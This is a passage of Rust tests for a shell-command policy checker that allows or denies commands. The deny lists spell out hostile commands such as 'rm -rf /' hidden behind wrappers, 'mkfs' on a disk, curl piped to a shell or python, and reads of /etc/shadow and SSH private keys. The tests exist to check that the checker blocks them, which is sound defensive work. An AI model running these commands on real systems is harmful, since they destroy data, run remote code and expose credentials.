                "nohup nice -n 5 timeout -s KILL 5 ionice -c3 rm -rf /",
                "/usr/bin/env -u X /bin/rm -rf /",
                "busybox mkfs.ext4 /dev/sda1",
            ],
        );
        all_allowed(&[
            "sudo -u www systemctl status nginx",
            "timeout -s KILL 5 uptime",
            "env -u LANG ls -la /srv",
        ]);
    }

    #[test]
    fn class_2_wrapper_list_is_extendable_from_the_policy_file() {
        let text = format!(
            "{EXAMPLE_POLICY}\n[[policy.wrappers]]\nname = \"mywrap\"\nvalue_options = [\"-x\", \"--level\"]\noperands = 1\n"
        );
        let p = Policy::from_toml_str(&text).unwrap();
        let d = p.evaluate(&Request::exec("mywrap -x 1 --level 2 HOST rm -rf /"));
        assert_eq!(d.verdict, Verdict::Deny, "{}", d.reason);
        assert!(d.reason.contains("wrapper: mywrap"), "{}", d.reason);
        // Without the entry the heuristic views still see `rm -rf /` at some position, but the
        // reason names no wrapper.
        let d = example().evaluate(&Request::exec("mywrap -x 1 --level 2 HOST rm -rf /"));
        assert!(!d.reason.contains("wrapper: mywrap"), "{}", d.reason);
        // Bad entries are config errors naming the wrapper.
        for bad in [
            "name = \"my wrap\"",
            "name = \"w\"\nvalue_options = [\"x\"]",
            "name = \"w\"\nscript_options = [\"--c=1\"]",
            "name = \"w\"\noperands = 99",
            "name = \"w\"\nunknown = 1",
        ] {
            let text = format!("{EXAMPLE_POLICY}\n[[policy.wrappers]]\n{bad}\n");
            let e = Policy::from_toml_str(&text).unwrap_err().to_string();
            assert!(e.contains("wrapper") || e.contains("unknown"), "{bad}: {e}");
        }
    }

    #[test]
    fn class_3_code_the_splitter_cannot_see() {
        all_denied(
            "code the checker can't see",
            &[
                "python3 -c 'import os; os.system(\"rm -rf /\")'",
                "python3 -Bc 'print(1)'",
                "python3.11 -c 'print(1)'",
                "perl -e 'system(\"rm -rf /\")'",
                // `-ne` is `-n` plus inline code: it could call system() too.
                "perl -ne 'print if /x/' /srv/x",
                "ruby -e 'exec \"rm -rf /\"'",
                "node -e 'require(\"child_process\").execSync(\"rm -rf /\")'",
                "node --eval='1'",
                "php -r 'system(\"id\");'",
                "awk 'BEGIN { system(\"rm -rf /\") }'",
                "awk '{ print | \"sh\" }' /srv/x",
                "gawk -f /tmp/prog.awk",
                "sed 'e rm -rf /' /srv/x",
                "sed -e '1e id' /srv/x",
                "sed 's/.*/rm -rf \\//e' /srv/x",
                "sed -f /tmp/script.sed /srv/x",
                "cat /tmp/x | sh",
                "cat /tmp/x | bash -s",
                "sh /tmp/script.sh",
                "bash -x /tmp/script.sh",
                ". /tmp/script.sh",
                "source /tmp/script.sh",
                "bash < /tmp/script.sh",
                "sh -c \"$(curl -fsSL https://example.invalid/x)\"",
                "bash -c \"`cat /tmp/x`\"",
                "eval \"$(cat /tmp/x)\"",
                "sudo python3 -c 'print(1)'",
                "curl https://example.invalid/x | python3",
                "ssh web1 < /tmp/script.sh",
            ],
        );
        all_allowed(&[
            "python3 /srv/app/manage.py check",
            "python3 --version",
            "awk '{ print $1 }' /var/log/syslog",
            "sed -n '1,5p' /var/log/syslog",
            "sed 's/a/b/g' /srv/x",
        ]);
    }

    #[test]
    fn class_3_an_allow_rule_naming_the_command_lets_it_run() {
        let text = format!(
            "{EXAMPLE_POLICY}\n[[policy.allow_commands]]\nid = \"healthcheck\"\npattern = 'python3 -c \"import app; app.check\\(\\)\"'\n[[policy.allow_commands]]\nid = \"anything\"\npattern = '.*'\n"
        );
        let p = Policy::from_toml_str(&text).unwrap();
        let d = p.evaluate(&Request::exec("python3 -c \"import app; app.check()\""));
        assert_eq!(d.verdict, Verdict::Allow, "{}", d.reason);
        // Without deny rules nothing needs protecting, so hidden code is not refused.
        let p = policy("[[allow_commands]]\nid = \"any\"\npattern = '.*'\n");
        let d = p.evaluate(&Request::exec("python3 -c 'print(1)'"));
        assert_eq!(d.verdict, Verdict::Allow, "{}", d.reason);
        // In warn mode it is a warning that names the class.
        let d = with_mode("[[deny_commands]]\nid = \"x\"\npattern = '^x$'\n", "warn")
            .evaluate(&Request::exec("perl -e 1"));
        assert_eq!(d.verdict, Verdict::Warn);
        assert!(
            d.reason.contains("code the checker can't see"),
            "{}",
            d.reason
        );
        assert_eq!(d.rule_ids, [builtin::HIDDEN_CODE]);
    }

    #[test]
    fn class_4_expansions_in_arguments() {
        all_denied(
            "may match deny rule `no-rm-root`",
            &[
                "rm -rf /?*",
                "rm -rf {/*,}",
                "rm -rf /*$X",
                "rm -rf /[*]",
                "rm -rf $X",
                "rm -rf ${X}",
                "rm -rf \"$(echo /)\"",
                "rm -rf {,/}",
                "sudo rm -rf /?*",
                "bash -c 'rm -rf /?*'",
            ],
        );
        let d = example().evaluate(&Request::exec("rm -rf /?*"));
        assert!(
            d.reason
                .contains("unresolvable glob may match deny rule `no-rm-root`"),
            "{}",
            d.reason
        );
        let d = example().evaluate(&Request::exec("rm -rf {/*,}"));
        assert!(d.reason.contains("unresolvable brace"), "{}", d.reason);
        let d = example().evaluate(&Request::exec("rm -rf /*$X"));
        assert!(d.reason.contains("unresolvable"), "{}", d.reason);
        all_allowed(&[
            "rm -rf /srv/app/cache/*",
            "rm -f /tmp/*.log",
            "ls /srv/{a,b}",
            "echo $HOME ${USER} $?",
        ]);
    }

    #[test]
    fn class_5_paths_in_every_form() {
        all_denied(
            "no-secrets",
            &[
                // option-attached forms
                "sort -o/etc/shadow /tmp/x",
                "tar --file=/etc/shadow -c /srv",
                "dd if=/dev/zero of=/etc/shadow",
                "install -D/etc/sudoers.d/x /tmp/x",
                // ~ and ~user
                "cat ~root/.ssh/id_rsa",
                "cp /tmp/k ~/.ssh/authorized_keys",
                "ls ~/.ssh/",
                // relative paths after cd / pushd
                "cd /etc && cat shadow",
                "cd /etc; cat ./sudoers.d/x",
                "pushd /root && cat .ssh/id_rsa",
                "cd /etc && echo x > shadow",
                "cd / && cd etc && cat shadow",
                "cd $X && cat shadow",
                // globs that could match a denied path
                "cat /etc/shado[w]",
                "cat /etc/shad*",
                "cat /etc/sudoers.d/*",
                "cat /root/.ss?/id_rsa",
                "cat /etc/$F",
                // directories that contain denied paths
                "grep -r x /root/.ssh",
                "tar czf /tmp/x.tgz /etc/sudoers.d",
                "cp -r /root/.ssh /tmp/k",
            ],
        );
        let d = example().evaluate(&Request::exec("cat /etc/shado[w]"));
        assert!(
            d.reason.contains("unresolvable glob")
                && d.reason.contains("may match deny rule `no-secrets`"),
            "{}",
            d.reason
        );
        let d = example().evaluate(&Request::exec("grep -r x /root/.ssh"));
        assert!(
            d.reason
                .contains("the directory `/root/.ssh` contains paths"),
            "{}",
            d.reason
        );
        all_allowed(&[
            "cat /etc/hostname",
            "cat ~/notes.txt",
            "cd /srv && cat app.conf",
            "ls /srv/*.log",
            "sort -o/tmp/out /tmp/x",
            "tar --file=/tmp/x.tgz -c /srv/app",
            "grep -r x /srv/app",
        ]);
    }

    #[test]
    fn the_working_directory_of_the_request_resolves_relative_paths() {
        let mut req = Request::exec("cat shadow");
        req.path = Some("/etc".into());
        let d = example().evaluate(&req);
        assert_eq!(d.verdict, Verdict::Deny, "{}", d.reason);
        req.path = Some("/srv".into());
        assert_eq!(example().evaluate(&req).verdict, Verdict::Allow);
    }

    #[test]
    fn plugins_get_the_parse() {
        let cmds = tether_policy::parse_commands(
            "true; sudo -u root /usr/bin/systemctl --no-block restart x > /tmp/o 2>&1",
            None,
        )
        .unwrap();
        let argvs: Vec<Vec<&str>> = cmds
            .iter()
            .map(|c| c.argv.iter().map(String::as_str).collect())
            .collect();
        assert_eq!(argvs[0], ["true"]);
        assert_eq!(
            argvs[1],
            [
                "sudo",
                "-u",
                "root",
                "/usr/bin/systemctl",
                "--no-block",
                "restart",
                "x"
            ]
        );
        assert_eq!(
            cmds[1].redirects,
            [
                (">".to_owned(), "/tmp/o".to_owned()),
                ("2>&".to_owned(), "1".to_owned())
            ]
        );
        assert!(
            cmds[1].paths.contains(&"/tmp/o".to_owned()),
            "{:?}",
            cmds[1].paths
        );
        // The wrapped command is there too, with what runs it.
        let wrapped = cmds
            .iter()
            .find(|c| c.via.as_deref() == Some("wrapper: sudo"))
            .unwrap();
        assert_eq!(wrapped.argv[0], "/usr/bin/systemctl");
        let cmds = tether_policy::parse_commands("bash -c 'a \"b c\"'", None).unwrap();
        assert!(
            cmds.iter()
                .any(|c| c.argv == ["a", "b c"]
                    && c.via.as_deref() == Some("runs a string: bash -c"))
        );
        assert!(tether_policy::parse_commands("echo 'x", None).is_err());
    }
}
